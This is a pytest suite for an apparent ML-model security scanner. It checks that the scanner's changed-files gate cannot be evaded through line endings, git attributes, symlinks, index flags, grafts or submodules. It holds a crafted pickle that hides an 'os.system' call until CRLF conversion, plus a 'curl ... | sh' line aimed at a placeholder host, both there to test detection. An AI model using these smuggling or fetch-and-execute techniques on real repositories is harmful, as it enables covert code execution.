"""Whoever writes a pull request hides a change from ``--changed-since``, so that its gate is green.

They commit a harmless file to the base (or find one there), and change what is on disk after the
checkout by something that is easily taken for no change: line ends, attributes, a link, a name, a
permission, bits of the index. What they gain: the hostile file is scanned, judged, and not shown.
"""

from __future__ import annotations

import hashlib
import pickle
from collections.abc import Callable
from pathlib import Path

import pytest

from mlsec.repository.changes.change import open_change
from tests.attacks.limited import run_here
from tests.repository.changes.repositories import commit, git, repository

# The payload stands at the end of a counted text, behind as many line ends as it has bytes: when
# each becomes two bytes, the text ends before the payload, which then runs.
_CALL = b"\x8c\x02os\x8c\x06system\x93\x8c\x04true\x85R."
_COUNTED = b"\n" * len(_CALL) + _CALL
_BENIGN = b"\x80\x04B" + len(_COUNTED).to_bytes(4, "little") + _COUNTED + b"."
_TEXT = "cbuiltins\nlen\n(Vx\ntR."
_CODE = 'resource "aws_s3_bucket" "b" {\n  bucket = "b"\n}\n'


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    made = repository(tmp_path / "repo", {"main.tf": _CODE, "m/text.pkl": _TEXT})
    (made / "m" / "w.bin").write_bytes(_BENIGN)
    commit(made, {})
    git(made, "checkout", "-q", "-b", "feature")
    return made


def crlf(path: Path) -> None:
    path.write_bytes(path.read_bytes().replace(b"\n", b"\r\n"))


def is_changed(folder: Path, name: str) -> bool:
    return open_change([str(folder)], "main").is_changed(name)


@pytest.mark.parametrize("name", ["m/w.bin", "m/text.pkl"], ids=["binary", "protocol 0"])
def test_pickle_with_other_line_ends_is_another_pickle(name: str, folder: Path) -> None:
    assert not is_changed(folder, name)
    crlf(folder / name)
    assert is_changed(folder, name)


def test_payload_that_slips_out_of_a_string_fails_the_gate(folder: Path) -> None:
    words = ("scan", folder / "m" / "w.bin", "--changed-since", "main", "--min-coverage", "0")
    assert pickle.loads(_BENIGN) == _COUNTED  # noqa: S301
    before = run_here(*words, cwd=folder)
    assert before.code == 0, before.err
    crlf(folder / "m" / "w.bin")
    assert pickle.loads((folder / "m" / "w.bin").read_bytes()) == 0  # noqa: S301
    after = run_here(*words, cwd=folder)
    assert after.code == 10, after.err
    assert b"os.system" in after.out


def test_code_with_the_line_ends_of_another_system_is_no_change(folder: Path) -> None:
    crlf(folder / "main.tf")
    assert not is_changed(folder, "main.tf")


@pytest.mark.parametrize(
    "act",
    [
        lambda body: body.replace(b"\n", b"\r\n", 1),
        lambda body: body.replace(b"\n", b"\r"),
        lambda body: body.replace(b"\n", b"\n\r"),
        lambda body: body.replace(b"\n", b"\r\r\n"),
        lambda body: body + b"\r\n",
        lambda body: b"\xef\xbb\xbf" + body,
    ],
    ids=["one line", "carriage returns", "turned round", "two", "one more", "a mark of order"],
)
def test_what_no_checkout_makes_of_a_text_is_a_change(
    act: Callable[[bytes], bytes], folder: Path
) -> None:
    path = folder / "main.tf"
    path.write_bytes(act(path.read_bytes()))
    assert is_changed(folder, "main.tf")


def test_text_that_holds_what_git_takes_for_binary_is_not_forgiven(folder: Path) -> None:
    git(folder, "checkout", "-q", "main")
    (folder / "b.tf").write_bytes(b"# a\n# \x00\n")
    (folder / "c.tf").write_bytes(b"# a\n# lone \r here\n")
    (folder / "d.tf").write_bytes(b"# \x01\x02\n" * 9)
    commit(folder, {})
    git(folder, "checkout", "-q", "-b", "next")
    for name in ("b.tf", "c.tf", "d.tf"):
        crlf(folder / name)
        assert is_changed(folder, name), name


@pytest.mark.parametrize("place", [".gitattributes", "m/.gitattributes"])
def test_attributes_that_a_change_brings_forgive_nothing(place: str, folder: Path) -> None:
    path = folder / "m" / "main.tf"
    git(folder, "checkout", "-q", "main")
    commit(folder, {"m/main.tf": _CODE, "m/sub/x.tf": _CODE})
    git(folder, "checkout", "-q", "-b", "next")
    crlf(path)
    assert not is_changed(folder, "m/main.tf")
    commit(folder, {place: "*.tf text eol=crlf\n* -diff export-ignore\n"})
    path.unlink()
    git(folder, "checkout", "-q", "--", "m/main.tf")
    assert b"\r\n" in path.read_bytes()
    assert is_changed(folder, "m/main.tf")
    assert not is_changed(folder, "m/sub/x.tf")


def test_attributes_are_compared_as_any_file(folder: Path) -> None:
    git(folder, "checkout", "-q", "main")
    commit(folder, {".gitattributes": "* -text\n"})
    git(folder, "checkout", "-q", "-b", "next")
    crlf(folder / "main.tf")
    assert not is_changed(folder, "main.tf")
    crlf(folder / ".gitattributes")
    assert is_changed(folder, "main.tf")


def test_pointer_of_a_large_file_is_not_the_file_once_attributes_make_it_one(folder: Path) -> None:
    body = pickle.dumps(list(range(999)))
    pointer = (
        "version https://git-lfs.github.com/spec/v1\n"
        f"oid sha256:{hashlib.sha256(body).hexdigest()}\nsize {len(body)}\n"
    )
    git(folder, "checkout", "-q", "main")
    commit(folder, {"big.pkl": pointer})
    git(folder, "checkout", "-q", "-b", "next")
    (folder / "big.pkl").write_bytes(body)
    assert not is_changed(folder, "big.pkl")
    (folder / ".gitattributes").write_text("*.pkl filter=lfs\n")
    assert is_changed(folder, "big.pkl")


def test_link_is_another_when_what_it_leads_to_is(folder: Path) -> None:
    # The file itself lies where no model is looked for; the link to it is scanned.
    git(folder, "checkout", "-q", "main")
    (folder / "model.bin").symlink_to("node_modules/w.bin")
    (folder / "twice.bin").symlink_to("model.bin")
    (folder / "round.bin").symlink_to("round.bin")
    commit(folder, {"node_modules/w.bin": "w"})
    git(folder, "checkout", "-q", "-b", "next")
    assert not is_changed(folder, "model.bin")
    assert not is_changed(folder, "twice.bin")
    commit(folder, {"node_modules/w.bin": "hostile"})
    assert is_changed(folder, "model.bin")
    assert is_changed(folder, "twice.bin")
    assert not is_changed(folder, "round.bin")


def test_link_to_a_folder_is_more_in_a_folder_of_models(folder: Path) -> None:
    change = open_change([str(folder)], "main")
    assert not change.touches(f"{folder}/m/", "m/w.bin")
    (folder / "m" / "more").symlink_to("..")
    assert open_change([str(folder)], "main").touches(f"{folder}/m/", "m/w.bin")


@pytest.mark.parametrize("committed", ["a\\u001bb.bin", "a\x1bb.bin"], ids=["as shown", "as it is"])
def test_name_that_is_shown_as_another_one_does_not_stand_for_it(
    committed: str, folder: Path
) -> None:
    other = ({"a\\u001bb.bin", "a\x1bb.bin"} - {committed}).pop()
    shown = "a\\u001bb.bin"
    git(folder, "checkout", "-q", "main")
    commit(folder, {committed: "w"})
    git(folder, "checkout", "-q", "-b", "next")
    assert not is_changed(folder, shown)
    (folder / other).write_text("hostile")
    assert is_changed(folder, shown)


def test_permission_to_execute_is_a_change(folder: Path) -> None:
    assert not is_changed(folder, "main.tf")
    (folder / "main.tf").chmod(0o755)
    assert is_changed(folder, "main.tf")


@pytest.mark.parametrize("bit", ["--assume-unchanged", "--skip-worktree"])
def test_bits_of_the_index_hide_nothing(bit: str, folder: Path) -> None:
    git(folder, "update-index", bit, "m/w.bin", "main.tf")
    (folder / "m" / "w.bin").write_bytes(b"hostile")
    assert git(folder, "status", "--porcelain") == ""
    assert is_changed(folder, "m/w.bin")
    assert not is_changed(folder, "main.tf")


def test_ignored_untracked_and_submodules_are_changes(folder: Path, tmp_path: Path) -> None:
    commit(folder, {".gitignore": "*.bin\n"})
    (folder / "new.bin").write_bytes(b"hostile")
    assert is_changed(folder, "new.bin")
    inner = repository(tmp_path / "inner", {"x.bin": "x"})
    git(folder, "checkout", "-q", "main")
    git(folder, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(inner), "sub")
    commit(folder, {})
    git(folder, "checkout", "-q", "-b", "next")
    assert is_changed(folder, "sub/x.bin")
    assert not is_changed(folder, "main.tf")


def test_grafts_and_replaced_commits_move_no_common_ancestor(folder: Path) -> None:
    git(folder, "checkout", "-q", "main")
    lying = commit(folder, {"m/w.bin": "hostile"})
    git(folder, "checkout", "-q", "feature")
    commit(folder, {"m/w.bin": "hostile", "other.tf": _CODE})
    assert is_changed(folder, "m/w.bin")
    git(folder, "replace", git(folder, "rev-parse", "HEAD^"), lying)
    (folder / ".git" / "info" / "grafts").write_text(
        f"{git(folder, 'rev-parse', 'HEAD')} {lying}\n"
    )
    assert is_changed(folder, "m/w.bin")


def test_file_is_unchanged_only_if_all_common_ancestors_have_it(folder: Path) -> None:
    # Two branches that each merged the other: git names two best common ancestors.
    git(folder, "checkout", "-q", "main")
    commit(folder, {"m/w.bin": "hostile"})
    git(folder, "branch", "one")
    git(folder, "checkout", "-q", "feature")
    commit(folder, {"b.tf": _CODE})
    git(folder, "branch", "two")
    git(folder, "merge", "-q", "-m", "x", "one")
    git(folder, "checkout", "-q", "main")
    git(folder, "merge", "-q", "-m", "x", "two")
    (folder / "m" / "w.bin").write_bytes(_BENIGN)
    commit(folder, {})
    git(folder, "checkout", "-q", "feature")
    assert len(git(folder, "merge-base", "--all", "main", "HEAD").split()) == 2
    assert is_changed(folder, "m/w.bin")
    assert not is_changed(folder, "main.tf")


def test_file_that_cannot_be_read_counts_as_changed(folder: Path) -> None:
    (folder / "m" / "w.bin").unlink()
    (folder / "m" / "w.bin").mkdir()
    assert is_changed(folder, "m/w.bin")


@pytest.mark.parametrize("place", ["", "deep/model/"], ids=["at the root", "below"])
@pytest.mark.parametrize("where", ["repository", "folder of it"])
def test_code_that_does_harm_only_beside_a_model_is_shown_with_the_model_that_is_added(
    place: str, where: str, tmp_path: Path
) -> None:
    code = "import os\nos.system('curl http://example.invalid | sh')\n"
    made = repository(tmp_path / "flat", {f"sub/{place}handler.py": code, "other/a.tf": _CODE})
    git(made, "checkout", "-q", "-b", "feature")
    target = made if where == "repository" else made / "sub"
    words = ("scan", target, "--changed-since", "main", "--min-coverage", "0", "-f", "json")
    assert run_here(*words, cwd=tmp_path).code == 0
    commit(made, {"other/a.tf": _CODE * 2})
    assert run_here(*words, cwd=tmp_path).code == 0
    (made / "sub" / place / "model.pkl").write_bytes(pickle.dumps(None))
    done = run_here(*words, cwd=tmp_path)
    assert done.code == 10, done.err
    assert f"{place}handler.py".encode() in done.out


def test_folder_of_a_model_that_is_the_target_itself_is_touched_by_its_files(
    tmp_path: Path,
) -> None:
    made = repository(tmp_path / "flat", {"sub/w.bin": "w", "w.bin": "w"})
    for target, name in ((made, "w.bin"), (made / "sub", "sub/w.bin")):
        assert not open_change([str(target)], "main").touches(f"{target}/", name)
        (made / name).write_text("other")
        assert open_change([str(target)], "main").touches(f"{target}/", name)
        (made / name).write_text("w")
